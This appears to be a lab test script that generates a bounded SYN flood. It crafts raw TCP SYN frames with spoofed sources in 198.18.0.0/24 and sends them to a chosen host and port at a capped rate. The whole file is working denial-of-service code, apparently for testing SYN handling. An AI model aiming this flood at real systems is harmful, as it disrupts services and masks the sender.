#!/usr/bin/env python3
"""tests/lab/synflood.py - a bounded SYN flood from pg-cli: COUNT SYNs from
spoofed sources in 198.18.0.0/24 (never answered: those hosts do not
exist) to DST:PORT, sent on IFACE through a raw AF_PACKET socket at most
RATE per second. Prints {"sent": n, "seconds": s}.

usage: synflood.py IFACE DST_MAC DST_IP PORT COUNT [RATE]
"""
import json
import random
import socket
import struct
import sys
import time


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def syn(smac, dmac, src, dst, sport, dport, seq):
    # MSS, SACK-permitted, timestamps, window scale: what Linux sends.
    opts = struct.pack("!BBH", 2, 4, 1460) + b"\x04\x02" + struct.pack("!BBII", 8, 10, seq, 0) + b"\x01\x03\x03\x07"
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, (5 + len(opts) // 4) << 4, 0x02, 64240, 0, 0) + opts
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), seq & 0xFFFF, 0x4000, 64, 6, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return dmac + smac + b"\x08\x00" + ip + tcp


def main():
    iface, dst_mac, dst_ip, port, count = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]), int(sys.argv[5])
    rate = int(sys.argv[6]) if len(sys.argv) > 6 else 20000
    rnd = random.Random(5)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    smac = s.getsockname()[4][:6]
    dmac = bytes.fromhex(dst_mac.replace(":", ""))
    t0 = time.time()
    sent = 0
    for i in range(count):
        src = "198.18.0.%d" % rnd.randint(100, 250)
        s.send(syn(smac, dmac, src, dst_ip, rnd.randint(1024, 65535), port, rnd.getrandbits(32)))
        sent += 1
        if sent % 100 == 0:
            ahead = sent / rate - (time.time() - t0)
            if ahead > 0:
                time.sleep(ahead)
        if time.time() - t0 > 60:
            break
    print(json.dumps({"sent": sent, "seconds": round(time.time() - t0, 3)}))


if __name__ == "__main__":
    main()
